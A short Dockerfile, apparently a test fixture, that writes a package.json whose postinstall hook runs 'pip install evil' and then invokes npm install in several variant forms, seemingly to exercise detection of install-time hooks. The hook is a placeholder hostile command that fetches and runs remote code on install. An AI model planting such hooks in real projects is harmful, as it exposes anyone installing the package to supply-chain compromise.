FROM node:20
WORKDIR /app
COPY <<EOF /app/package.json
{"name": "x", "scripts": {"postinstall": "pip install evil"}}
EOF
RUN npm --prefix /app install
RUN npm --loglevel warn ci
RUN npm -C /app install
RUN npm --loglevel warn ls
